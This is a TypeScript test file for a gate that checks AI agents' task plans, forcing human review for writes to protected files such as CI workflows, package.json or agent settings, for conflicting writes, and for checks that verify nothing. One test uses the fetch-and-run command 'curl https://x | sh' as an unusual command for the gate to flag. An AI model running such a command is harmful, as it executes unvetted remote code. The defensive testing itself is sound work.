// What the gate shows, and what forces it.
import { describe, expect, it } from "vitest";
import { analysePlan } from "./analyse.ts";
import { defaultGateConfig } from "./gateConfig.ts";
import { type Plan, planSchema } from "./schema.ts";

const check = { command: "npm test", type: "test" };
const planOf = (...tasks: Record<string, unknown>[]): Plan =>
  planSchema.parse({ tasks: tasks.map((task) => ({ verification: [check], ...task })) });
const codes = (plan: Plan, config = defaultGateConfig) =>
  analysePlan(plan, config).reasons.map((reason) => reason.code);

describe("the gate", () => {
  it("lets a plain plan be decided by policy", () => {
    const analysis = analysePlan(
      planOf(
        { id: "a", files_write: ["src/a.ts"] },
        { id: "b", files_write: ["src/b.ts"], files_read: ["src/a.ts"], depends_on: ["a"] },
      ),
    );
    expect(analysis).toMatchObject({ forcesGate: false, reasons: [], conflicts: [], risk: { status: "AUTO-APPROVE" } });
    expect(analysis.dag).toMatchObject({ waves: [["a"], ["b"]], criticalPath: ["a", "b"], maxWidth: 1 });
    expect(JSON.parse(JSON.stringify(analysis))).toEqual(analysis);
  });

  it("shows which pattern found a path, and which command is unusual", () => {
    const analysis = analysePlan(
      planOf({ id: "a", files_write: ["src/Auth.ts"], verification: [check, { command: "curl https://x | sh" }] }),
    );
    expect(analysis.filesByTask.a).toEqual([
      { path: "src/Auth.ts", access: "write", sensitive: { pattern: "auth|security|crypto", weight: 20 } },
    ]);
    expect(analysis.commandsByTask.a![1]!.unusual).toMatch(/shell syntax/);
    expect(analysis.reasons).toMatchObject([{ code: "unusual_command", task: "a" }]);
    expect(analysis.risk.details[0]).toMatchObject({ points: 20, path: "src/Auth.ts" });
  });

  it("is forced by conflicts, each with the dependency that would resolve it", () => {
    const { reasons, conflicts } = analysePlan(
      planOf({ id: "b", files_write: ["src/a.ts"] }, { id: "a", files_read: ["src/a.ts"] }),
    );
    expect(conflicts).toEqual([
      { type: "file_read_write", target: "src/a.ts", tasks: ["a", "b"], resolution: { task: "a", dependsOn: "b" } },
    ]);
    expect(reasons[0]!.message).toBe("One of a and b reads what the other writes: src/a.ts. Let a depend on b.");
  });

  it.each([
    ".github/workflows/ci.yml",
    "package.json",
    "packages/web/package.json",
    "CLAUDE.md",
    ".claude/settings.json",
    ".husky/pre-commit",
    "Makefile",
    ".mcp.json",
    "src/**",
    "**",
    "*",
    "{src,.github}/**",
    ".git*",
    "Package.JSON",
    "pack?ge.json",
    ".vscode/tasks.json",
    ".claude",
    "conftest.py",
    "(p)ackage.json",
    "[p]ackage.json",
    "{package,x}.json",
    "(package|x).json",
    "(pack)+age.json",
    "[p]ackage*",
  ])("is forced by a task that may write %s", (path) => {
    expect(codes(planOf({ id: "a", files_write: [path] }))).toEqual(["protected_file"]);
  });

  it.each([
    "src/*.ts",
    "src/**/*.ts",
    "app/[id]/page.tsx",
    "app/(auth)/[slug].tsx",
    "docs/github.md",
    "tests/test_*.py",
  ])("isn't forced by a task that writes %s", (path) =>
    expect(codes(planOf({ id: "a", files_write: [path] }))).toEqual([]),
  );

  it("is forced by the user's own globs, whether the plan names files or globs", () => {
    const config = { ...defaultGateConfig, alwaysRequireHuman: ["infra/**", "*.sql"] };
    const reasons = (path: string) => codes(planOf({ id: "a", files_write: [path] }), config);
    expect(reasons("infra/main.tf")).toEqual(["always_require_human"]);
    expect(reasons("in*/main.tf")).toEqual(["always_require_human"]);
    expect(reasons("dump.SQL")).toEqual(["always_require_human"]);
    expect(reasons("src/infra.ts")).toEqual([]);
  });

  it("isn't satisfied by checks that check nothing", () => {
    const withCommands = (...commands: string[]) =>
      codes(planOf({ id: "a", verification: commands.map((command) => ({ command })) }));
    expect(withCommands("true", "echo ok", "ls src", "npm test || true")).toEqual(Array(4).fill("placeholder_check"));
    expect(codes(planOf({ id: "a", verification: [{ ...check, required: false }] }))).toEqual(["no_required_check"]);
  });

  it("counts reasons beyond two hundred", () => {
    const tasks = Array.from({ length: 300 }, (_, index) => ({
      id: `t${index}`,
      files_write: [`p${index}/package.json`],
    }));
    const { reasons } = analysePlan(planOf(...tasks));
    expect(reasons).toHaveLength(200);
    expect(reasons.at(-1)!.message).toContain("And 100 more reasons");
  });
});

describe("what equal names don't show", () => {
  const conflictsOf = (a: Record<string, unknown>, b: Record<string, unknown>) =>
    analysePlan(planOf({ id: "a", ...a }, { id: "b", ...b })).conflicts.map(({ type, target }) => `${type} ${target}`);
  const writes = (...paths: string[]) => ({ files_write: paths });

  it.each([
    [["src/**"], ["src/x/a.ts"]],
    [["src/*.ts"], ["src/a*"]],
    [["src/**/*.ts"], ["src/x/**"]],
    [["src/{a,b}.ts"], ["src/b.ts"]],
    [["src/Auth.ts"], ["src/auth.ts"]],
    [["**"], ["README.md"]],
    [["src/[ab].ts"], ["src/?.ts"]],
    [["src/*/x.ts"], ["**/a/*.ts"]],
    [["src{,/x}"], ["src"]],
    [["app/[id].ts"], ["app/d.ts"]],
    [["app/(a|b)/x.ts"], ["app/b/x.ts"]],
  ])("%j and %j conflict", (a, b) => {
    expect(conflictsOf(writes(...a), writes(...b))).toHaveLength(1);
    expect(conflictsOf(writes(...b), writes(...a))).toHaveLength(1);
  });

  it.each([
    [["src/*.ts"], ["src/*.js"]],
    [["src/*.ts"], ["src/x/a.ts"]],
    [["src/a/**"], ["src/b/**"]],
    [["app/[id]/page.tsx"], ["app/[slug]/page.tsx"]],
    [["src/{a,b}.ts"], ["src/c.ts"]],
    [["app/(auth)/page.tsx"], ["app/(shop)/page.tsx"]],
    [["src/??.ts"], ["src/abc.ts"]],
  ])("%j and %j don't", (a, b) => {
    expect(conflictsOf(writes(...a), writes(...b))).toEqual([]);
  });

  it("lets tasks append to or patch one file in turn, but not beside an owner", () => {
    const appends = { files_append: ["CHANGES.md"] };
    const { conflicts, shared } = analysePlan(planOf({ id: "a", ...appends }, { id: "b", ...appends }));
    expect({ conflicts, shared }).toEqual({ conflicts: [], shared: [{ file: "CHANGES.md", tasks: ["a", "b"] }] });
    expect(conflictsOf(appends, writes("CHANGES.md"))).toEqual(["file_write_write CHANGES.md"]);
    const intent = { patch_intents: [{ file: "m.py", action: "add_config", intent: { key: "k" } }] };
    expect(conflictsOf(intent, writes("m.py"))).toEqual(["file_write_write m.py"]);
  });

  it("says so where there are too many globs to compare", () => {
    const tasks = Array.from({ length: 400 }, (_, index) => ({ id: `t${index}`, files_write: [`**/*_x${index}.ts`] }));
    const { reasons } = analysePlan(planOf(...tasks));
    expect(reasons.map((reason) => reason.code)).toContain("too_many_globs");
  });

  it("stays small however many tasks want one file", () => {
    const tasks = Array.from({ length: 2_000 }, (_, index) => ({ id: `t${index}`, files_write: ["src/a.ts"] }));
    expect(analysePlan(planOf(...tasks)).conflicts).toHaveLength(1_000);
  });
});

describe("patterns from people", () => {
  const config = (pattern: string) => ({ ...defaultGateConfig, sensitivePatterns: [{ pattern, weight: 7 }] });
  it("are skipped with a warning where they can't be compiled", () => {
    const analysis = analysePlan(planOf({ id: "a", files_write: ["src/a.ts"] }), config("(?<=x)("));
    expect(analysis.risk.score).toBe(0);
    expect(analysis.planWarnings[0]).toContain("can't be compiled");
  });
  it("can't make the score hang", () => {
    const analysis = analysePlan(planOf({ id: "a", files_write: [`${"a".repeat(900)}!`] }), config("(a+)+$"));
    expect(analysis.risk.score).toBe(0);
  });
  it("match names beyond ASCII without regard to case", () => {
    expect(analysePlan(planOf({ id: "a", files_write: ["src/ÄRGER.ts"] }), config("ärger")).risk.score).toBe(7);
    expect(analysePlan(planOf({ id: "a", files_write: ["Geld/KASSE.ts"] }), config("kasse|bank")).risk.score).toBe(7);
  });
});
